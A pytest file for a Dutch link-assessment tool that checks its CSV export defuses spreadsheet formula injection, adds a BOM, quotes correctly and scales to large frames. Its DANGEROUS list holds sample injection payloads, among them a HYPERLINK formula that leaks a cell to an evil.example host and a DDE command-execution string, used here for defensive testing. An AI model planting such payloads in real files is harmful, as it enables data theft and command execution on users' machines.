"""Spreadsheet-safe CSV: formula cells defused, BOM for Excel, proper quoting, fast for big frames."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from linkwijzer.present import spreadsheet
from linkwijzer.questionnaire.assessment import Assessment
from linkwijzer.questionnaire.verdict import Answers
from linkwijzer.present.spreadsheet import BOM, defuse, safe_csv, safe_csv_frame, saved_list_csv
from linkwijzer.store.assessments import Store

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\tgewoon",
    "  =cmd|' /C calc'!A0",
    " \t@x",
    "\n-1",
]
HARMLESS = ["Fietsen van Dijk", "https://fietsblog.nl/e-bike-onderhoud", "e-mail", "", "1-2", "café één",
            "a=b", "50%", "'al gequote", "lees meer; klik hier", 'zegt "ja", toch']


def read(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark missing"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("cell", DANGEROUS)
def test_formula_cells_get_a_quote(cell: str) -> None:
    assert defuse(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_normal_text_is_untouched(cell: str) -> None:
    assert defuse(cell) == cell


def test_numbers_and_none() -> None:
    assert [defuse(v) for v in (-2, 1.5, True, None)] == ["-2", "1.5", "True", ""]


def test_safe_csv_round_trips_through_csv_reader() -> None:
    cells = DANGEROUS + HARMLESS
    rows = [{"cell": c, "n": i} for i, c in enumerate(cells)]
    table = read(safe_csv(rows, ["cell", "n"], {"cell": "Ankertekst", "n": "Nr."}))
    assert table[0] == ["Ankertekst", "Nr."]
    assert [r[0] for r in table[1:]] == [defuse(c) for c in cells]
    assert [r[1] for r in table[1:]] == [str(i) for i in range(len(cells))]


def test_accents_survive_and_bom_is_first() -> None:
    data = safe_csv([{"a": "één café ü"}], ["a"])
    assert data[:3] == BOM.encode("utf-8")
    assert read(data)[1] == ["één café ü"]


def test_headers_are_defused_and_missing_columns_blank() -> None:
    table = read(safe_csv([{"a": "x"}], ["a", "b"], {"a": "=kop"}))
    assert table == [["'=kop", "b"], ["x", ""]]


def test_semicolon_delimiter_for_dutch_excel() -> None:
    data = safe_csv([{"a": "x;y", "b": "-1"}], ["a", "b"], delimiter=";")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1] == ["x;y", "'-1"]


def test_frame_matches_row_writer() -> None:
    cells = DANGEROUS + HARMLESS
    df = pd.DataFrame({"cell": cells, "n": range(len(cells))})
    assert safe_csv_frame(df) == safe_csv(df.to_dict("records"), ["cell", "n"])


def test_frame_keeps_numbers_missing_values_and_input() -> None:
    df = pd.DataFrame({
        "anchor": pd.Series(["=1", None, "ok"], dtype=object),
        "arrow": pd.Series(["+x", pd.NA, "y"], dtype="string[pyarrow]"),
        "category": pd.Categorical(["-a", "b", "-a"]),
        "n": [-1, -2, 3],
        "when": pd.to_datetime(["2024-01-01", "2024-02-01", None]),
    })
    before = df.copy()
    table = read(safe_csv_frame(df, headers={"anchor": "Anker"}))
    assert table[0] == ["Anker", "arrow", "category", "n", "when"]
    assert [r[:4] for r in table[1:]] == [["'=1", "'+x", "'-a", "-1"], ["", "", "b", "-2"], ["ok", "y", "'-a", "3"]]
    pd.testing.assert_frame_equal(df, before)


def test_frame_is_vectorised(monkeypatch: pytest.MonkeyPatch) -> None:
    # Issue 4 exports a million links: the frame path must not call the per-cell function per row.
    calls = []
    monkeypatch.setattr(spreadsheet, "defuse", lambda v: calls.append(v) or str(v))
    n = 200_000
    df = pd.DataFrame({"anchor": ["=x", "lees meer"] * (n // 2), "url": ["https://a.nl/"] * n})
    table = read(safe_csv_frame(df))
    assert len(calls) <= len(df.columns)
    assert len(table) == n + 1 and table[1][0] == "'=x" and table[2][0] == "lees meer"


@pytest.fixture
def saved(tmp_path: Path):
    store = Store(tmp_path / "db.sqlite3")
    a = Assessment(answers=Answers(quick=("yes", "yes", "no"),
                                   traits={"relevance": "yes", "context": "partly", "origin": "yes",
                                           "naturalness": "yes", "contribution": "unknown"},
                                   boosters=frozenset({"traffic", "intent"})),
                   source_url="https://fietsblog.nl/a", target_url="https://fietsenvandijk.nl", anchor="=HYPERLINK(1)")
    store.save(a, "@Fietsblog", note="-korting\nbij bestelling, graag")
    store.save(Assessment(), "Leeg")
    return store.list()


def test_saved_list_csv_dutch(saved) -> None:
    table = read(saved_list_csv(saved, "nl"))
    header, rows = table[0], table[1:]
    assert header == ["Nr.", "Naam", "Notitie", "Bewaard op (UTC)", "Verwijzende pagina", "Doelpagina", "Ankertekst",
                      "Eenminuuttoets: aantal keer ja", "Relevantie", "Context", "Herkomst", "Natuurlijkheid",
                      "Bijdrage", "Neutraal wordt waardevol", "Uitkomst", "Besluit"]
    assert [r[1] for r in rows] == ["Leeg", "'@Fietsblog"]
    fiets = dict(zip(header, rows[1]))
    assert fiets["Notitie"] == "'-korting\nbij bestelling, graag"
    assert fiets["Ankertekst"] == "'=HYPERLINK(1)"
    assert fiets["Eenminuuttoets: aantal keer ja"] == "2"
    assert (fiets["Relevantie"], fiets["Context"], fiets["Bijdrage"]) == ("Ja", "Deels", "Weet ik niet")
    assert fiets["Neutraal wordt waardevol"].count(";") == 1
    assert (fiets["Uitkomst"], fiets["Besluit"]) == ("Goed", "Nastreven")
    assert fiets["Nr."] == str(saved[1].id)


def test_saved_list_csv_english(saved) -> None:
    table = read(saved_list_csv(saved, "en"))
    assert table[0][:3] == ["No.", "Name", "Note"]
    assert table[2][-2:] == ["Good", "Pursue"]
    assert table[1][-2:] == ["Insufficient information", "Skip"]


def test_doctests() -> None:
    import doctest

    assert doctest.testmod(spreadsheet).failed == 0
